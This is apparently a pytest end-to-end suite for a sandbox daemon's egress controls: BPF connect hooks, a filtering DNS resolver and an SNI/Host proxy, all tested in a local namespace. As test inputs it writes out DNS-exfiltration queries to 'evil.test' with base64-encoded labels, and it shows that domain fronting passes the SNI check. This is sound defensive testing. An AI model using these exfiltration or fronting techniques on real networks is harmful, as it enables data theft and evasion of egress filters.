"""Networked sandboxes end to end (root): a daemon with a network pool of its own, the test's
servers in a network namespace the test makes (:mod:`tests.edged.net.servers`), DNS answers
from edged's resolver with static records and a fake upstream on the host's loopback. No
traffic leaves the machine."""

from __future__ import annotations

import asyncio
import contextlib
import hashlib
import os
import re
import subprocess
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from edged.cgroups import fs as cgfs
from edged.cgroups.v1 import V1Hierarchy
from edged.cgroups.v2 import V2Hierarchy
from edged.client import InvalidStateError, Sandbox
from edged.client._http import Transport
from edged.net import bpf, libbpf
from tests.edged.net.servers import NET4, NET6, FakeUpstream, ServerNetns
from tests.edged.test_e2e_container import RealNode, layer_store, real_node  # noqa: F401
from tests.timing import bound

pytestmark = [pytest.mark.root, pytest.mark.mount]

PROFILE = Path(__file__).resolve().parents[3] / "profiles/network/default.toml"
STATIC = {"ok.test": [f"{NET4}.2"], "other.test": [f"{NET4}.3"],
          "shared.test": [f"{NET4}.2"], "v6.test": [f"{NET6}3"]}
UPSTREAM = {"up.test": ([f"{NET4}.3"], 1), "up6.test": ([f"{NET6}2"], 300)}


class Net:
    """One test's network: the daemon, its server namespace and fake upstream."""

    def __init__(self, node: RealNode, srv: ServerNetns, upstream: FakeUpstream, tag: str,
                 start: Callable[..., RealNode], settings: dict[str, Any]) -> None:
        self.node, self.srv, self.upstream, self.tag = node, srv, upstream, tag
        self.start, self.settings = start, settings

    @property
    def socket(self) -> str:
        return self.node.socket

    def on_loop(self, fn: Callable[[], Any]) -> Any:
        """Run ``fn`` in the daemon's event loop thread and return its result."""
        async def call() -> Any:
            return fn()
        return asyncio.run_coroutine_threadsafe(call(), self.node.thread.loop).result(10)

    def links(self) -> list[str]:
        """Our host interfaces (netlink work runs in the network manager's own thread)."""
        plumber = self.node.server.manager.net.plumber
        return list(asyncio.run_coroutine_threadsafe(plumber.run(plumber.links),
                                                     self.node.thread.loop).result(10))

    def create(self, sid: str, network: Any, **kw: Any) -> Sandbox:
        _, digest = self.layer
        return Sandbox.create(layers=[digest], id=sid, env={"PATH": "/bin"},
                              socket=self.socket, network=network, **kw)

    layer: tuple[str, str] = ("", "")


@pytest.fixture
def net(real_node, layer_store, tmp_path) -> Iterator[Net]:  # noqa: F811
    tag = hashlib.sha256(str(tmp_path).encode()).hexdigest()[:4]
    srv = ServerNetns(tag, tmp_path)
    upstream = FakeUpstream(UPSTREAM)
    static = ", ".join(f'"{k}" = {v!r}'.replace("'", '"') for k, v in STATIC.items())
    prof = tmp_path / "net.toml"
    prof.write_text(PROFILE.read_text().replace("ttl_min = 5", "ttl_min = 1").replace(
        "# static = {", f"static = {{ {static} }}\n# x = {{"))
    third = int(tag[:2], 16)
    settings = dict(network_pool=f"10.214.{third}.0/24", network_pool6=f"fd8e:dbe7:{tag}::/64",
                    network_profile=str(prof), network_prefix="n" + tag,
                    network_dns_upstreams=f"127.0.0.1:{upstream.port}")
    node = real_node(**settings)
    table = f"edged_n{tag}"
    assert subprocess.run(["nft", "list", "table", "ip", table], capture_output=True,
                          text=True).stdout.count("masquerade") == 1, "the NAT rule is in place"
    n = Net(node, srv, upstream, tag, real_node, settings)
    n.layer = layer_store
    try:
        yield n
    finally:
        n.node.stop()
        gone = subprocess.run(["nft", "list", "table", "ip", table], capture_output=True)
        srv.close()
        upstream.close()
        links = subprocess.run(["ip", "-br", "link"], capture_output=True, text=True).stdout
        assert not [ln for ln in links.splitlines() if ln.startswith("n" + tag)], links
        assert gone.returncode != 0, "the NAT table is removed with the last networked sandbox"


def sh(sbx: Sandbox, cmd: str, timeout: float = 20) -> str:
    r = sbx.exec(cmd, timeout=bound(timeout))
    return r.stdout + r.stderr


#: half the connect timeout the refusals run with (nc -w 20; busybox tftp retries ~17 s, wget
#: waits minutes): refusals took 2.17 s (nc, load 100) and 4.86 s (wget's TLS reset, load 36)
#: on a loaded host; one that waited for a timeout takes 20 s or more
REFUSAL_MAX_S = 10.0


def refused_fast(sbx: Sandbox, cmd: str, *, closed: bool = False) -> str:
    """Run a command that must fail at once (EPERM at connect, not a timeout; ``closed``:
    or the proxy closes the connection at once, which ``nc`` takes as a clean end). Timed
    in the sandbox around the command alone (``/proc/uptime``), not over the exec's round
    trip, which a loaded host stretches by seconds: what counts is that no timeout ran."""
    out = sh(sbx, f"read t0 _ </proc/uptime; {cmd}; rc=$?; read t1 _ </proc/uptime; "
                  "echo rc=$rc took $t0 $t1")
    assert "hi-" not in out and "echo:" not in out, out
    assert closed or "rc=0" not in out, out
    m = re.search(r"took (\S+) (\S+)", out)
    assert m, out
    assert float(m[2]) - float(m[1]) < REFUSAL_MAX_S, f"a refusal must be fast: {out}"
    return out


def wait_for(cond: Callable[[], bool], what: str, timeout: float = 8.0) -> None:
    """Poll ``cond`` until it holds, for at most ``timeout`` seconds (scaled:
    tests.timing.bound; the node VM's emulation timed out waiting for three connections)."""
    deadline = time.monotonic() + bound(timeout)
    while not cond():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.05)


def test_names_ports_addresses_and_ipv6(net: Net) -> None:
    rules = ["ok.test", "v6.test:8080", f"{NET4}.3:8080", f"[{NET6}2]:8080"]
    with net.create("net-1", {"allow": rules}) as sbx:
        assert sbx.network()["policy"] == {"allow": rules}
        # the resolver answers whatever server is asked (8.8.8.8 here: redirected)
        assert f"{NET4}.2" in sh(sbx, "nslookup ok.test 8.8.8.8")
        assert f"{NET4}.3" not in sh(sbx, "nslookup other.test 8.8.8.8")
        assert f"hi-{NET4}.2:8080" in sh(sbx, f"nc -w 3 {NET4}.2 8080 </dev/null")
        # names on 80/443 go through the SNI/Host proxy
        assert f"hi-{NET4}.2:80 host=ok.test" in sh(sbx, "wget -q -O- http://ok.test/")
        out = sh(sbx, "wget -q -O- --no-check-certificate https://ok.test/")
        assert "sni=ok.test" in out, (out, net.srv.log)
        # a raw address or a port no rule allows: refused at connect
        refused_fast(sbx, f"nc -w 20 {NET4}.3 80 </dev/null")
        refused_fast(sbx, f"nc -w 20 {NET4}.3 9000 </dev/null")
        assert f"hi-{NET4}.3:8080" in sh(sbx, f"nc -w 3 {NET4}.3 8080 </dev/null")
        # IPv6: an address rule, and a name learned from an AAAA answer (through libc)
        assert f"hi-{NET6}2:8080" in sh(sbx, f"nc -w 3 {NET6}2 8080 </dev/null")
        refused_fast(sbx, f"nc -w 20 {NET6}2 9000 </dev/null")
        assert f"hi-{NET6}3:8080" in sh(sbx, "nc -w 3 v6.test 8080 </dev/null")
        refused_fast(sbx, f"nc -w 20 {NET6}3 9000 </dev/null")  # v6.test: port 8080 only
        evs = sbx.events(kind="egress_denied")
        assert any(e["address"] == f"{NET4}.3:80" and e["detail"]["hook"] == "connect"
                   for e in evs), evs
        assert any(e["address"] == f"[{NET6}2]:9000" for e in evs), evs
        denied = sbx.events(kind="dns_denied")
        assert any(e["path"] == "other.test" for e in denied), denied
        assert sbx.network()["denied"] >= 4


def test_cidr_and_udp_rules(net: Net) -> None:
    rules = [f"{NET4}.0/30:8080", {"rule": f"{NET4}.2:5353", "protocol": "udp"}]
    with net.create("net-cidr", {"allow": rules}) as sbx:
        for a in (2, 3):
            assert f"hi-{NET4}.{a}:8080" in sh(sbx, f"nc -w 3 {NET4}.{a} 8080 </dev/null")
        refused_fast(sbx, f"nc -w 20 {NET4}.2 9000 </dev/null")
        # UDP (busybox's tftp: unconnected sendto, the sendmsg hook)
        # (its first datagram within the sleep: emulated, the node VM needs longer)
        sh(sbx, f"tftp -g -r x -l /dev/null {NET4}.2 5353 & sleep {bound(1):g}; kill $!")
        wait_for(lambda: [d for d in net.srv.datagrams if d[0] == f"{NET4}.2"], "a datagram")
        out = refused_fast(sbx, f"tftp -g -r x -l /dev/null {NET4}.3 5353")
        assert "not permitted" in out, out
        assert not [d for d in net.srv.datagrams if d[0] == f"{NET4}.3"]


def test_phase_switch_cuts_what_the_new_policy_forbids(net: Net) -> None:
    with net.create("net-phase", {"allow": ["ok.test", f"{NET4}.3:9000"]}) as sbx:
        sh(sbx, "nslookup ok.test")
        outs: dict[str, str] = {}
        hold = f"{bound(4):g}"  # the cut comes while they wait (scaled: emulated it is slow)
        cmds = {
            "direct": f"(echo a; sleep {hold}; echo bye) | nc {NET4}.2 9000; echo rc=$?",
            "kept": f"(echo a; sleep {hold}; echo bye) | nc {NET4}.3 9000; echo rc=$?",
            "proxied": ("(printf 'GET /hold HTTP/1.0\\r\\nHost: ok.test\\r\\n\\r\\n'; "
                        f"sleep {hold}; echo bye) | nc ok.test 80; echo rc=$?"),
        }
        threads = [threading.Thread(target=lambda k=k, c=c: outs.__setitem__(k, sh(sbx, c)))
                   for k, c in cmds.items()]
        for t in threads:
            t.start()
        wait_for(lambda: len(net.srv.conns(9000)) == 2 and all(
            c.lines == ["a"] for c in net.srv.conns(9000)) and net.srv.conns(80),
            "the three connections")
        out = sbx.set_network({"allow": [f"{NET4}.3:9000"]})
        assert out["generation"] == 1 and out["cut"] == 2, out
        for t in threads:
            t.join(bound(20))
        (direct,) = net.srv.conns(9000, f"{NET4}.2")
        (kept,) = net.srv.conns(9000, f"{NET4}.3")
        (proxied,) = net.srv.conns(80)
        wait_for(lambda: bool(direct.end and kept.end and proxied.end),
                 f"the connections' ends: {direct, kept, proxied, outs}")
        assert kept.lines == ["a", "bye"] and kept.end == "done", kept
        assert direct.lines == ["a"] and direct.end in ("reset", "eof"), direct
        assert proxied.lines == [] and proxied.host == "ok.test", proxied
        assert "echo:bye" in outs["kept"] and "echo:bye" not in outs["direct"], outs
        # and nothing new to what the policy no longer allows
        refused_fast(sbx, f"nc -w 20 {NET4}.2 8080 </dev/null")
        assert "NXDOMAIN" in sh(sbx, "nslookup ok.test; echo")
        assert sbx.set_network("none")["generation"] == 2
        refused_fast(sbx, f"nc -w 20 {NET4}.3 9000 </dev/null")


def test_dns_exfiltration_is_refused(net: Net) -> None:
    with net.create("net-dns", {"allow": ["up.test", "ok.test"]}) as sbx:
        long = ".".join(["x" * 63] * 3)
        for q in (f"{long}.evil.test", "c2VjcmV0.evil.test", "evil.test"):
            out = sh(sbx, f"nslookup {q} 8.8.8.8; echo rc=$?")
            assert "NXDOMAIN" in out and "rc=0" not in out, out
        # a "server" at an address the policy allows is the resolver too
        sh(sbx, f"nslookup evil.test {NET4}.2")
        sh(sbx, "nslookup -type=TXT up.test 8.8.8.8; nslookup -type=MX ok.test 8.8.8.8")
        assert f"{NET4}.3" in sh(sbx, "nslookup up.test 8.8.8.8")
        assert not [n for n in net.upstream.names() if "evil" in n], net.upstream.queries
        assert ("up.test", "A") in net.upstream.queries
        assert not [q for q in net.upstream.queries if q[1] not in ("A", "AAAA")], \
            net.upstream.queries
        denied = {e["path"] for e in sbx.events(kind="dns_denied")}
        assert {"evil.test", "c2vjcmv0.evil.test", f"{long}.evil.test"} <= denied, denied


def test_learned_addresses_expire_with_their_ttl(net: Net) -> None:
    with net.create("net-ttl", {"allow": ["up.test"]}) as sbx:
        assert f"hi-{NET4}.3:8080" in sh(sbx, f"nslookup up.test >/dev/null; "
                                               f"nc -w 3 {NET4}.3 8080 </dev/null")
        assert sbx.network()["learned"] >= 1
        time.sleep(1 + 2.0 + 0.5)  # TTL 1 s (the profile's ttl_min) and the grace
        refused_fast(sbx, f"nc -w 20 {NET4}.3 8080 </dev/null")
        evs = sbx.events(kind="egress_denied")
        assert any(e["detail"]["why"] == "expired" and e["detail"].get("names") == ["up.test"]
                   for e in evs), evs
        assert net.on_loop(net.node.server.manager.net.collect) >= 1
        assert sbx.network()["learned"] == 0
        # asking again makes it reachable again
        assert f"hi-{NET4}.3:8080" in sh(sbx, f"nslookup up.test >/dev/null; "
                                               f"nc -w 3 {NET4}.3 8080 </dev/null")


def test_two_sandboxes_with_different_policies(net: Net) -> None:
    with net.create("net-a", {"allow": ["ok.test"]}) as a, \
            net.create("net-b", {"allow": ["other.test"]}) as b:
        assert f"{NET4}.2" in sh(a, "nslookup ok.test")
        assert f"{NET4}.3" in sh(b, "nslookup other.test")
        assert f"{NET4}.3" not in sh(a, "nslookup other.test; echo")
        assert f"{NET4}.2" not in sh(b, "nslookup ok.test; echo")
        assert f"hi-{NET4}.2:8080" in sh(a, f"nc -w 3 {NET4}.2 8080 </dev/null")
        assert f"hi-{NET4}.3:8080" in sh(b, f"nc -w 3 {NET4}.3 8080 </dev/null")
        refused_fast(a, f"nc -w 20 {NET4}.3 8080 </dev/null")
        refused_fast(b, f"nc -w 20 {NET4}.2 8080 </dev/null")
        assert a.network()["address"] != b.network()["address"]


def test_sni_and_host_are_checked(net: Net) -> None:
    with net.create("net-sni", {"allow": ["ok.test"]}) as sbx:
        sbx.files.write("/etc/hosts", f"{NET4}.2 shared.test\n")
        assert "sni=ok.test" in sh(sbx, "wget -q -O- --no-check-certificate https://ok.test/")
        # shared.test is on ok.test's address, which the filter allows: the proxy refuses
        for cmd in ("wget -q -O- --no-check-certificate https://shared.test/",
                    "wget -q -O- http://shared.test/",
                    f"wget -q -O- --no-check-certificate https://{NET4}.2/"):
            refused_fast(sbx, cmd)
        for cmd in ("echo hello | nc ok.test 443", "echo hello | nc ok.test 80"):
            refused_fast(sbx, cmd, closed=True)
        seen = {(c.sni, c.host) for c in net.srv.conns(443) + net.srv.conns(80)}
        assert not [s for s in seen if "shared.test" in s], seen
        whys = {(e["detail"]["why"], tuple(e["detail"].get("names", ())))
                for e in sbx.events(kind="egress_denied") if e["detail"]["hook"] == "proxy"}
        assert ("name_not_allowed", ("shared.test",)) in whys, whys
        assert {w for w, _ in whys} >= {"not_tls", "not_http"}, whys
        # what the check cannot see: the Host inside TLS (documented: domain fronting)
        out = sh(sbx, "wget -q -O- --no-check-certificate --header 'Host: shared.test' "
                      "https://ok.test/")
        assert "host=shared.test sni=ok.test" in out, out


def test_delete_ends_proxied_connections(net: Net) -> None:
    """A sandbox deleted while it sends through the proxy to a server that has stopped
    reading: the client's FIN waits behind unsent data in a full window, then its namespace
    is gone; the proxy must end both legs itself (it held them, and the server, forever)."""
    sbx = net.create("net-gone", {"allow": ["ok.test"]})

    def stuffed() -> None:
        with contextlib.suppress(Exception):  # the sandbox goes away under it
            sh(sbx, "(printf 'GET /stall HTTP/1.0\\r\\nHost: ok.test\\r\\n\\r\\n'; "
                    "cat /dev/zero) | nc ok.test 80", timeout=40)

    t = threading.Thread(target=stuffed, daemon=True)
    t.start()
    wait_for(lambda: bool(net.srv.conns(80)), "the proxied connection")
    (conn,) = net.srv.conns(80)
    time.sleep(2)  # the buffers fill: server's receive, proxy's, the sandbox's send
    assert not conn.end and net.on_loop(lambda: net.node.server.manager.net.proxy.open) == 1
    sbx.kill()
    wait_for(lambda: bool(conn.end), "the server's end of it")
    assert conn.end == "reset", conn
    assert net.on_loop(lambda: net.node.server.manager.net.proxy.open) == 0
    t.join(10)


def test_none_sandbox_has_no_network_and_cannot_get_one(net: Net) -> None:
    before = net.links()
    with net.create("net-none", "none") as sbx:
        assert net.links() == before
        assert sbx.network() == {"policy": "none"}
        assert "eth0" not in sh(sbx, "ls /sys/class/net; ip link; echo")
        with pytest.raises(InvalidStateError):
            sbx.set_network({"allow": ["ok.test"]})


def test_a_second_daemon_on_the_same_pool_is_refused(net: Net, tmp_path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    settings = dict(net.settings, network_prefix="m" + net.tag)
    node2 = net.start(socket=str(other / "s.sock"), state_dir=str(other / "state"),
                      runtime_dir=str(other), **settings)
    feats = node2.server.manager.net.features
    assert feats["enabled"] is False and "network pool" in feats["reason"], feats
    node2.stop()
    with net.create("net-still", {"allow": ["ok.test"]}) as sbx:
        assert f"{NET4}.2" in sh(sbx, "nslookup ok.test")


def test_node_shows_the_network_features(net: Net) -> None:
    info = Transport(net.socket).json("GET", "/v1/node")
    feats = info["features"]["network"]
    assert feats["enabled"] is True and "reason" not in feats, feats
    assert feats["cgroup_bpf"] is True and feats["netns"] is True and feats["nat"] is True
    assert feats["sni_check"] is True and feats["proxy"] == {"tls_port": 443, "http_port": 80}
    assert feats["pool4"] == net.settings["network_pool"] and "pypi" in feats["services"]
    assert feats["dns"]["listen"][0] == f"10.214.{int(net.tag[:2], 16)}.1", feats
    assert isinstance(feats["uplink_forwarding"], bool)
    assert feats["ipv6"] is True, feats["ipv6_reason"]  # forwarded here (6.18, or the node VM)
    # the egress programs are on the backend's cgroup v2 directory, in whichever layout this
    # host has (hybrid: a directory in the controller-less v2 hierarchy; cgroup v2: the
    # sandboxes' parent, whose children are the sandboxes' own directories)
    cg = Path(feats["cgroup_dir"])
    mnt = cgfs.v2_mount()
    assert mnt is not None and cg.is_relative_to(mnt), (cg, mnt)
    mgr = net.node.server.manager
    assert cg == mgr.backends.get(mgr.net.s.backend).cgroups.bpf_dir()
    fd = os.open(cg, os.O_RDONLY | os.O_DIRECTORY)
    try:
        assert all(libbpf.query(fd, kind) for _, kind in bpf.PROGRAMS)
    finally:
        os.close(fd)


@pytest.mark.parametrize("missing", ["cgroup v2", "bpf"])
def test_without_cgroup_v2_or_bpf_networking_is_off(real_node, layer_store, tmp_path,  # noqa: F811
                                                    monkeypatch, missing: str) -> None:
    """A host without a cgroup v2 directory for the programs (v1 only), or without BPF:
    GET /v1/node says networking is off and why, a networked create is refused with that
    reason (409), and sandboxes without a network work."""
    if missing == "cgroup v2":
        for h in (V1Hierarchy, V2Hierarchy):
            monkeypatch.setattr(h, "bpf_dir", lambda self: None)
    else:
        monkeypatch.setattr(bpf, "available", lambda: (False, "no BPF here (test)"))
    tag = hashlib.sha256(str(tmp_path).encode()).hexdigest()[:4]
    node = real_node(network_pool=f"10.215.{int(tag[:2], 16)}.0/24",
                     network_pool6=f"fd8e:dbe8:{tag}::/64", network_prefix="o" + tag)
    feats = Transport(node.socket).json("GET", "/v1/node")["features"]["network"]
    why = "no cgroup v2 directory" if missing == "cgroup v2" else "no BPF here (test)"
    assert feats["enabled"] is False and why in feats["reason"], feats
    assert "cgroup_dir" not in feats and "dns" not in feats, feats
    _, digest = layer_store
    with pytest.raises(InvalidStateError, match=re.escape(why)):
        Sandbox.create(layers=[digest], id="net-off", env={"PATH": "/bin"},
                       socket=node.socket, network={"allow": ["pypi"]})
    with Sandbox.create(layers=[digest], id="net-off-none", env={"PATH": "/bin"},
                        socket=node.socket) as sbx:
        assert sbx.exec("echo ok").stdout == "ok\n"
    links = subprocess.run(["ip", "-br", "link"], capture_output=True, text=True).stdout
    assert "o" + tag not in links, links  # nothing was made for the network


def test_restart_adopts_networked_sandboxes(net: Net) -> None:
    net.node.stop()
    net.node = net.start(on_shutdown="keep", **net.settings)
    sbx = net.create("net-kept", {"allow": ["ok.test"]})
    try:
        assert f"hi-{NET4}.2:8080" in sh(sbx, f"nslookup ok.test >/dev/null; "
                                               f"nc -w 3 {NET4}.2 8080 </dev/null")
        net.node.stop()
        net.node = net.start(on_shutdown="stop", **net.settings)
        sbx = Sandbox.connect("net-kept", socket=net.socket)
        assert sbx.network()["policy"] == {"allow": ["ok.test"]}
        # the learned address is still in the maps; the policy is still enforced
        assert f"hi-{NET4}.2:8080" in sh(sbx, f"nc -w 3 {NET4}.2 8080 </dev/null")
        refused_fast(sbx, f"nc -w 20 {NET4}.3 8080 </dev/null")
        assert sbx.set_network("none")["generation"] >= 1
        refused_fast(sbx, f"nc -w 20 {NET4}.2 8080 </dev/null")
    finally:
        sbx.kill()


def _held() -> dict[str, int]:
    """What this process (the daemon runs in it) holds: its fds; of them BPF maps, programs
    and links; and network namespaces, by an fd or as a thread's namespace (the plumber's
    thread enters sandboxes' namespaces and leaves). The daemon's namespaces are unnamed
    (no nsfs mount): these are all that keep one alive once its sandbox's processes are
    gone. (Host-wide BPF ids cannot tell: other daemons on the machine load the same
    programs and maps at any time.)"""
    fds = os.listdir("/proc/self/fd")
    out = {"fds": len(fds), "bpf-map": 0, "bpf-prog": 0, "bpf_link": 0}
    netns = set()
    for link in [*(f"/proc/self/fd/{fd}" for fd in fds),
                 *(f"/proc/self/task/{t}/ns/net" for t in os.listdir("/proc/self/task"))]:
        with contextlib.suppress(OSError):
            target = os.readlink(link)
            if target.startswith("net:["):
                netns.add(target)
            elif (kind := target.removeprefix("anon_inode:")) in out:
                out[kind] += 1
    out["netns"] = len(netns)
    return out


def _ours(n: Net) -> dict[str, int]:
    """What the daemon holds for sandboxes: map entries, records, our interfaces, what
    :func:`_held` counts, the programs attached to the cgroup v2 directory."""
    mgr = n.node.server.manager.net

    def count() -> dict[str, int]:
        f = mgr.filter
        out = {name: len(f.maps[name].keys()) for name in
               ("sandboxes", "addrs4", "addrs6", "cidr4", "cidr6", "learned4", "learned6")}
        out["records"] = len(list(mgr.records.glob("*.json")))
        out.update(_held())
        fd = os.open(f.cgroup_dir, os.O_RDONLY | os.O_DIRECTORY)
        try:
            out["attached"] = sum(len(libbpf.query(fd, kind)) for _, kind in bpf.PROGRAMS)
        finally:
            os.close(fd)
        return out
    return dict(n.on_loop(count), links=len(n.links()))


def _cycles(n: Net, count: int) -> None:
    before = _ours(n)
    assert before["attached"] == len(bpf.PROGRAMS), before
    assert before["bpf-prog"] >= len(bpf.PROGRAMS) and before["bpf-map"] >= len(bpf.MAPS)
    for i in range(count):
        with n.create(f"net-c{i}", {"allow": ["ok.test", f"{NET4}.3:8080"]}) as sbx:
            if i % 50 == 0:
                assert f"{NET4}.2" in sh(sbx, "nslookup ok.test")
            else:
                sbx.exec("true")
    after = _ours(n)
    # no map entry, record, interface, namespace, BPF map/program/link or attachment more
    assert {k: after[k] for k in after if k != "fds"} == {k: before[k] for k in before
                                                          if k != "fds"}, (before, after)
    assert after["fds"] <= before["fds"] + 4, (before, after)
    assert after["sandboxes"] == 0 and after["learned4"] == 0, after


def test_create_delete_cycles_leave_nothing(net: Net) -> None:
    _cycles(net, 20)
    assert bpf.OBJECT.is_file()


@pytest.mark.slow
def test_a_thousand_create_delete_cycles_leave_nothing(net: Net) -> None:
    _cycles(net, 1000)
